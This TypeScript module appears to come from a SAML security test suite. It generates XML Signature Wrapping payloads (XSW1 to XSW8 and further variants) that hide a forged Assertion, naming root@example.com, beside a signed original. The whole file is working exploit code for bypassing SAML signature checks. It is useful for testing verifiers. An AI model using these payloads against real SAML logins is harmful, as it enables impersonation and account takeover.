/** Signature wrapping: the published ways (XSW1 to 8, Somorovsky et al., "On Breaking SAML", 2012) to show a forged Assertion beside a signed one. */
import { mutate } from './forge.js'

export const evilMail = 'root@example.com'

const signaturePattern = /<ds:Signature .*?<\/ds:Signature>/s
const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s

const find = (xml: string, pattern: RegExp): string => {
  const found = pattern.exec(xml)?.[0]
  if (found === undefined) throw new Error(`nothing to wrap: ${String(pattern)}`)
  return found
}

const withoutSignature = (xml: string): string => mutate(xml, signaturePattern, '')

/** The same statement about somebody else. */
const forge = (xml: string, id: string): string =>
  xml
    .replaceAll('ada@example.com', evilMail)
    .replace(/ ID="[^"]*"/, ` ID="${id}"`)
    .replaceAll(' ID="_assertion1"', id === '_evil' ? ' ID="_evilAssertion"' : ' ID="_assertion1"')

const inside = (element: string, content: string): string =>
  element.replace(/<\/(\w+:\w+)>$/, `${content}</$1>`)

const object = (content: string): string => `<ds:Object>${content}</ds:Object>`

type Wrap = (xml: string) => string

/** Takes a Response whose only signature is the Response's own. */
export const responseWraps: Readonly<Record<string, Wrap>> = {
  'XSW1: the original Response in an Object of the signature, a forged one around it': (xml) => {
    const signature = find(xml, signaturePattern)
    const carrying = inside(signature, object(withoutSignature(xml)))
    return mutate(forge(xml, '_evil'), signaturePattern, carrying)
  },
  'XSW2: the original Response before the signature, inside a forged one': (xml) => {
    const signature = find(xml, signaturePattern)
    return mutate(forge(xml, '_evil'), signaturePattern, `${withoutSignature(xml)}${signature}`)
  },
  'XSW2 with the same ID twice': (xml) => {
    const signature = find(xml, signaturePattern)
    const forged = forge(xml, '_response1')
    return mutate(forged, signaturePattern, `${withoutSignature(xml)}${signature}`)
  },
  'the original Response inside the Extensions of a forged one': (xml) =>
    mutate(
      withoutSignature(forge(xml, '_evil')),
      '<samlp:Status>',
      `<samlp:Extensions>${xml}</samlp:Extensions><samlp:Status>`,
    ),
  'the original Response at the end of a forged one, signed part and all': (xml) =>
    inside(withoutSignature(forge(xml, '_evil')), xml),
}

/** Takes a Response whose only signature is the Assertion's. */
export const assertionWraps: Readonly<Record<string, Wrap>> = {
  'XSW3: a forged Assertion before the original': (xml) => {
    const original = find(xml, assertionPattern)
    return mutate(xml, original, `${withoutSignature(forge(original, '_evil'))}${original}`)
  },
  'XSW3 the other way round': (xml) => {
    const original = find(xml, assertionPattern)
    return mutate(xml, original, `${original}${withoutSignature(forge(original, '_evil'))}`)
  },
  'XSW3 with the same ID twice': (xml) => {
    const original = find(xml, assertionPattern)
    return mutate(xml, original, `${withoutSignature(forge(original, '_assertion1'))}${original}`)
  },
  'XSW4: the original inside a forged Assertion': (xml) => {
    const original = find(xml, assertionPattern)
    return mutate(xml, original, inside(withoutSignature(forge(original, '_evil')), original))
  },
  'XSW5: a forged Assertion with the signature, the original at the end': (xml) => {
    const original = find(xml, assertionPattern)
    return mutate(xml, original, `${forge(original, '_evil')}${withoutSignature(original)}`)
  },
  'XSW6: the original inside the signature of a forged Assertion': (xml) => {
    const original = find(xml, assertionPattern)
    const carrying = inside(find(original, signaturePattern), withoutSignature(original))
    return mutate(xml, original, mutate(forge(original, '_evil'), signaturePattern, carrying))
  },
  'XSW7: a forged Assertion in Extensions before the original': (xml) => {
    const original = find(xml, assertionPattern)
    const forged = withoutSignature(forge(original, '_evil'))
    return mutate(
      xml,
      '<samlp:Status>',
      `<samlp:Extensions>${forged}</samlp:Extensions><samlp:Status>`,
    )
  },
  'XSW8: the original in an Object of the signature of a forged Assertion': (xml) => {
    const original = find(xml, assertionPattern)
    const carrying = inside(find(original, signaturePattern), object(withoutSignature(original)))
    return mutate(xml, original, mutate(forge(original, '_evil'), signaturePattern, carrying))
  },
  'the original in the Advice of a forged Assertion': (xml) => {
    const original = find(xml, assertionPattern)
    const forged = withoutSignature(forge(original, '_evil'))
    const advice = `<saml:Advice>${original}</saml:Advice><saml:AuthnStatement `
    return mutate(xml, original, mutate(forged, '<saml:AuthnStatement ', advice))
  },
  'the original in the SubjectConfirmationData of a forged Assertion': (xml) => {
    const original = find(xml, assertionPattern)
    const forged = withoutSignature(forge(original, '_evil'))
    const carrying = forged.replace(
      /(<saml:SubjectConfirmationData [^>]*)\/>/,
      `$1>${original}</saml:SubjectConfirmationData>`,
    )
    return mutate(xml, original, carrying)
  },
  'the original in an AttributeValue of a forged Assertion': (xml) => {
    const original = find(xml, assertionPattern)
    const forged = withoutSignature(forge(original, '_evil'))
    return mutate(xml, original, mutate(forged, '>Engineers<', `>${original}<`))
  },
  'the signature taken out and put beside a forged Assertion': (xml) => {
    const original = find(xml, assertionPattern)
    const forged = withoutSignature(forge(original, '_assertion1'))
    return mutate(xml, original, `${find(original, signaturePattern)}${forged}`)
  },
  'the forged Assertion as root, the original inside': (xml) => {
    const original = find(xml, assertionPattern)
    const forged = withoutSignature(forge(original, '_evil'))
    const namespaces =
      '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" '
    return inside(forged.replace('<saml:Assertion ', namespaces), xml)
  },
}
